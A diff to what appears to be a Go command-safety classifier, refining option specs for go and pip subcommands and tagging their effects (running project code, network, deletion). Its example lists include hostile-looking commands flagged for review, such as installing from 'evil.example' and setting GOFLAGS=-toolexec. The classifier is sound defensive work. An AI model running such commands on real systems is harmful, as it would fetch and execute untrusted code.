@@ -21,7 +21,7 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 			"go run main.go", "go generate ./...", "go vet -vettool=./x ./...", "go env -w GOFLAGS=-toolexec=./x", "go tool x"},
 		Subcommands: subs(
 			"version", &Spec{LongDash: true, Options: "-m -v -json", Operands: "r*"},
-			"env", &Spec{LongDash: true, Options: "-json -changed -u=c -w=c", Operands: "-*"},
+			"env", &Spec{LongDash: true, Options: "-json -changed -u:c -w:c", Operands: "-*"},
 			// -export and -compiled build the packages (cgo runs the C toolchain);
 			// -u asks the module proxy for updates.
 			"list", &Spec{LongDash: true, Permute: true, Operands: "-*", Options: goBuild + " -m -f= -e -deps -export:p -find -test -compiled:p -retracted:n -reuse= -u:n -versions:n",
@@ -119,7 +119,7 @@ var _ = family("toolchains", func(add func(...*Spec)) {
 			Subcommands: subs("list", &Spec{Permute: true, Operands: "", Options: "-o:n --outdated:n -u:n --uptodate:n -e --editable -l --local --user --path= --pre --format= --not-required --exclude-editable --include-editable --exclude= -h:h --help:h"},
 				"show", &Spec{Permute: true, Operands: "-*", Options: "-f --files -h:h --help:h"}, "freeze", &Spec{Permute: true, Operands: "", Options: "-l --local --user --all --exclude-editable --exclude= --path= -h:h --help:h"},
 				"check", &Spec{Operands: ""}, "help", &Spec{Operands: "-*"},
-				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true, Options: "-i=n --index-url=n --extra-index-url=n"}, "download", &Spec{Effect: Network, Operands: "-*", Loose: true},
+				"install", &Spec{Effect: RunsProject, Operands: "-*", Loose: true, Abbrev: true, Permute: true, Options: "-i=n --index-url=n --extra-index-url=n --break-system-packages"}, "download", &Spec{Effect: Network, Operands: "-*", Loose: true},
 				"uninstall", &Spec{Effect: Delete, Operands: "-*", Loose: true}, "config", &Spec{Effect: Config, Operands: "-*", Loose: true}, "cache", &Spec{Effect: Delete, Operands: "-*", Loose: true}),
 			ReadOnly: []string{"pip list", "pip show requests", "pip freeze"}, Flagged: []string{"pip install requests", "pip install --index-url https://evil.example/simple pkg"}},
 	)
